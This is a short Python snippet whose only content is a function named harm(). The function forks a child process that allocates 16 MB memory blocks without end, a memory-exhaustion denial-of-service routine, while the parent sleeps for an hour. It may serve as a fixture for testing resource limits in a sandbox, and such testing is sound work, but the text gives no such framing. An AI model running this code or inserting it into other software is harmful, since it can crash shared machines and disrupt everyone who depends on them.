import os
import time


def harm():
    if os.fork() == 0:
        held = []
        while True:
            held.append(bytearray(1 << 24))
    time.sleep(3600)
